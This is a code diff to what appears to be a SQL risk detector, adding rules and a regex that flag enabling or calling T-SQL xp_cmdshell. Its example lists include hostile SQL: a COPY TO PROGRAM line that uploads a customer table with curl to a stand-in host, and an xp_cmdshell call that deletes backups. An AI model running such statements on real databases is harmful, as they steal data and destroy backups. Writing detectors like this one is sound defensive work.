@@ -373,9 +373,13 @@ SQL_RULES: tuple[SqlRule, ...] = (
         "exfiltration",
         "critical",
         "require_approval",
-        "COPY … PROGRAM runs a shell command on the database server ({target}).",
-        ["COPY customers TO PROGRAM 'curl -T - https://x.example'"],
-        ["COPY customers FROM '/tmp/import.csv'"],
+        "Runs a shell command on the database server ({target}): COPY … PROGRAM, xp_cmdshell.",
+        [
+            "COPY customers TO PROGRAM 'curl -T - https://x.example'",
+            "EXEC sp_configure 'xp_cmdshell', 1",
+            "EXEC xp_cmdshell 'del /s /q D:\\backups'",
+        ],
+        ["COPY customers FROM '/tmp/import.csv'", "EXEC sp_configure 'xp_cmdshell', 0"],
     ),
     _rule(
         "sql.export",
@@ -664,6 +668,12 @@ _OUTFILE_TAIL = re.compile(
 )
 _UNLOAD = re.compile(r"^unload\s*\(\s*'((?:[^']|'')*)'\s*\)\s*to\s+'([^']*)'", re.I)
 _COPY_PROGRAM = re.compile(r"^copy\b.*?\bto\s+program\s+('(?:[^']|'')*')", re.I)
+# T-SQL: the database server's own shell, switched on or called
+_XP_CMDSHELL = re.compile(
+    r"^(?:exec(?:ute)?\s+)?(?:master\.(?:dbo)?\.)?(?:sp_configure\s+N?'xp_cmdshell'\s*,\s*1\b|"
+    r"xp_cmdshell\s+N?(?P<c>'(?:[^']|'')*'))",
+    re.I,
+)
 _COPY_INTO_LOCATION = re.compile(
     r"^copy\s+into\s+(@[\w.$/%~-]+|'(?:s3|gcs|gs|azure|https?)://[^']*')", re.I
 )
@@ -915,6 +925,12 @@ class SqlDetector:
         """Statements read with our own patterns. Returns True when fully handled."""
         low = clean.lower()
         head = low.split(" ", 1)[0]
+        if head in ("exec", "execute", "sp_configure", "xp_cmdshell", "master..xp_cmdshell"):
+            m = _XP_CMDSHELL.match(clean)
+            if m:
+                target = m.group("c") or "xp_cmdshell switched on"
+                self._add(result, "sql.copy_program", target.strip("'")[:60], clean)
+                return True
         if head in ("alter", "vacuum", "set"):
             m = _HISTORY_OFF.match(clean)
             if m:
